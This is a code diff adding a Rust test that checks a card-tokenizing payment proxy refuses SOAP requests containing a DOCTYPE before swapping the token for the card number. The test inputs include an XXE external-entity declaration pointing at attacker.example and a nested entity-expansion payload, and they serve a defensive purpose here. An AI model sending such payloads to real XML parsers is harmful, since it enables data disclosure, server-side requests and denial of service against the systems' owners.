@@ -2495,3 +2495,63 @@ fn card_quoted_inside_an_xml_answer_is_masked() {
     assert!(sent.contains("<g:cardNumber>4111111111111111</g:cardNumber>"));
     env.stop();
 }
+
+/// A SOAP body with a `DOCTYPE` (entity declarations ride in it) is refused with 422 before
+/// the token is swapped for the card: nothing reaches the gateway, neither the card nor the
+/// configured apikey (issue 14 item 10).
+#[test]
+fn axerve_soap_doctype_is_refused_before_any_swap() {
+    let env = Env::start(None);
+    let token = env.token("4111111111111111", 5, 2031);
+    let h = [
+        ("Content-Type", "text/xml; charset=utf-8"),
+        ("SOAPAction", "\"https://ecomms2s.sella.it/callPagamS2S\""),
+    ];
+    let envelope = |doctype: &str| {
+        format!(
+            r#"<?xml version="1.0" encoding="utf-8"?>{doctype}
+<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:g="https://ecomms2s.sella.it/">
+  <s:Body>
+    <g:callPagamS2S>
+      <g:shopLogin>GESPAY65987</g:shopLogin>
+      <g:uicCode>242</g:uicCode>
+      <g:amount>1.00</g:amount>
+      <g:shopTransactionId>doctype</g:shopTransactionId>
+      <g:cardNumber>{token}</g:cardNumber>
+    </g:callPagamS2S>
+  </s:Body>
+</s:Envelope>"#
+        )
+    };
+    let before = env.sandbox.log().len();
+    for doctype in [
+        r#"<!DOCTYPE s:Envelope [<!ENTITY x SYSTEM "http://attacker.example/x">]>"#,
+        r#"<!DOCTYPE s:Envelope [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>"#,
+        "<!DOCTYPE s:Envelope>",
+    ] {
+        let (s, a) = env.proxy(
+            "POST",
+            "axerve/gestpay/gestpayws/WSs2s.asmx",
+            &h,
+            &envelope(doctype),
+        );
+        assert_eq!(
+            refused((s, a.clone())),
+            (StatusCode::UNPROCESSABLE_ENTITY, "invalid_field".into()),
+            "{doctype}: {a}"
+        );
+        assert!(a.contains("DOCTYPE"), "{a}");
+        assert!(!a.contains("4111111111111111"), "{a}");
+    }
+    assert_eq!(env.sandbox.log().len(), before, "nothing forwarded");
+    // The same envelope without a DOCTYPE goes through.
+    let (s, a) = env.proxy(
+        "POST",
+        "axerve/gestpay/gestpayws/WSs2s.asmx",
+        &h,
+        &envelope(""),
+    );
+    assert_eq!(s, StatusCode::OK, "{a}");
+    assert_eq!(env.sandbox.log().len(), before + 1);
+    env.stop();
+}
